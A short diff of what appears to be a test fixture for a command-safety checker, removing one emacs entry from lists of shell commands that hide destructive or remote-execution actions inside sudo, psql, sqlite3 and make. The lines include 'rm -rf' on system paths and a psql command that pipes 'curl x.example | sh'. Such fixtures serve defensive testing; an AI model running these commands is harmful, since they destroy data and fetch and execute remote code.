@@ -65,7 +65,6 @@ VARIABLES = [
     "SUDO_ASKPASS='rm -rf ~' sudo -A true",
 ]
 LANGUAGES = [
-    "emacs --batch --eval '(shell-command \"rm -rf /\")'",
     "psql -c \"copy (select 1) to program 'curl x.example | sh'\"",
     "sqlite3 a.db '.system rm -rf /srv'",
     "printf 'all:\\n\\trm -rf /etc\\n' | make -f -",
